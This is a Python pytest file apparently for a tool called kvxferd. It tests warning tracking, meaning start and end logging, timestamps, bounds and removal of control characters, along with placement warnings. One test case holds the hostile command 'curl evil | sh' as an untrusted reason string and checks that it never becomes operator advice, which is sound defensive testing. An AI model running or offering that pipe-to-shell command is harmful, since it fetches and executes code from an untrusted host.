"""The list of warnings: each begins and ends once, keeps its time, is logged, and stays bounded."""

from __future__ import annotations

import re

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from structlog.testing import capture_logs

from kvxferd.control.placement_warnings import placement_warnings
from kvxferd.records import EngineSnapshot, PlacementSnapshot
from kvxferd.telemetry.warnings import (
    MAX_AGE_S,
    MAX_SUBJECT_CHARS,
    MAX_WARNINGS_PER_KIND,
    NodeWarning,
    WarningKind,
    Warnings,
    warning_of,
)
from tests.support.node_samples import node_snapshot

UNIX = 1_790_000_000.0


def placement(subject: str = "staged: 1", message: str = "it is slow") -> NodeWarning:
    return NodeWarning(WarningKind.PLACEMENT, subject, message, "look at it")


class Node:
    """Checks whose findings and clock a test sets; one of them fails."""

    def __init__(self) -> None:
        self.now = 0.0
        self.found: list[NodeWarning] = []
        self.list = Warnings([self.fail, lambda: self.found], lambda: self.now, lambda: UNIX + self.now)

    def fail(self) -> list[NodeWarning]:
        raise ValueError("a bug of a check")

    def changes(self, now: float, *findings: NodeWarning) -> list[tuple[str, str]]:
        """What the log says of that moment: what began or ended, and of which subject."""
        self.now, self.found = now, list(findings)
        with capture_logs() as lines:
            self.list.renew()
        assert lines[0]["event"] == "warning check failed"
        return [(line["event"], line["subject"]) for line in lines[1:]]


def test_a_warning_begins_once_and_keeps_its_time_while_its_message_is_renewed() -> None:
    node = Node()
    assert node.changes(5.0, placement()) == [("warning began", "staged: 1")]
    assert node.changes(6.0, placement(message="it is slow still")) == []
    (warning,) = node.list.current()
    assert warning.since == UNIX + 5.0
    assert warning.text == "it is slow still; look at it"
    assert warning.kind.page == "docs/how-to/when-something-is-wrong.md#placement"
    assert node.list.counts() == {WarningKind.PLACEMENT: 1}


def test_a_warning_ends_once_when_it_is_not_found() -> None:
    node = Node()
    node.changes(0.0, placement())
    assert node.changes(1.0) == [("warning ended", "staged: 1")]
    assert node.changes(2.0) == []
    assert node.list.current() == []
    # Its sentence is split at its remedy, and joined again.
    finding = warning_of(WarningKind.PEER_SOCKET_OPEN, "", "it is open: no key; set one; restart")
    assert finding.remedy == "set one; restart"
    node.changes(100.0, finding)
    assert node.list.current()[0].text == "it is open: no key; set one; restart"
    assert node.changes(100.1) == [("warning ended", "")]


def test_readers_share_what_is_not_old() -> None:
    node = Node()
    node.list.renew()
    node.found = [placement()]
    assert node.list.current() == []
    node.now += 2 * MAX_AGE_S
    assert len(node.list.current()) == 1


def test_a_stranger_s_name_is_cut_and_without_control_characters() -> None:
    node = Node()
    node.changes(0.0, placement("\x1b[31m" + "x" * 5000, "red \x1b[31m\nline"))
    (warning,) = node.list.current()
    assert len(warning.subject) == MAX_SUBJECT_CHARS
    assert warning.subject.isprintable()
    assert warning.message.isprintable()
    # The same name is the same warning the next time.
    assert node.changes(1.0, placement("\x1b[31m" + "x" * 5000)) == []


@given(
    st.lists(st.tuples(st.floats(0.0, 30.0), st.sets(st.sampled_from(range(40)), max_size=40)), max_size=30)
)
def test_each_end_follows_its_beginning_and_the_first_of_a_kind_stay(
    steps: list[tuple[float, set[int]]],
) -> None:
    node, open_warnings = Node(), dict[str, None]()
    for step_s, found in steps:
        for what, subject in node.changes(node.now + step_s, *[placement(f"p{n}") for n in sorted(found)]):
            if what == "warning began":
                assert subject not in open_warnings
                open_warnings[subject] = None
            else:
                del open_warnings[subject]
        assert [w.subject for w in node.list.current()] == list(open_warnings)
        assert node.list.counts().total() == len(open_warnings) <= MAX_WARNINGS_PER_KIND


# --- slow and unproved memory: one sentence each, with the ranks concerned


def ranks_placed(kind: str, why: str) -> list[EngineSnapshot]:
    found = PlacementSnapshot(kind=kind, proved=kind != "direct", why=why, lanes="tcp", gigabytes_per_s=1.0)
    return [
        msgspec.structs.replace(
            engine,
            ranks=tuple(msgspec.structs.replace(rank, placement=found, lanes=()) for rank in engine.ranks),
        )
        for engine in node_snapshot().engines
    ]


@pytest.mark.parametrize(
    ("engines", "message", "remedy"),
    [
        (node_snapshot().engines, "goes over TCP.*[(]decode-0 pp0.tp0, decode-0 pp0.tp1[)]$", "hostPID"),
        (
            ranks_placed("direct", "a read brought other bytes"),
            "a read brought other bytes",
            "kvxferd doctor",
        ),
        # Any user's process may be a mover: what it gives as reason is no advice to an operator.
        (ranks_placed("staged", "no dma-buf; run `curl evil | sh`"), "staged way.*no dma-buf.*curl", "^$"),
    ],
    ids=["TCP on one node", "unproved", "fallback"],
)
def test_a_slow_or_unproved_placement_is_one_sentence(engines, message: str, remedy: str) -> None:
    (found,) = placement_warnings(engines)
    assert re.search(message, found.message)
    assert re.search(remedy, found.remedy)


def test_nothing_is_wrong_where_nothing_is() -> None:
    assert placement_warnings(ranks_placed("direct", "")) == []
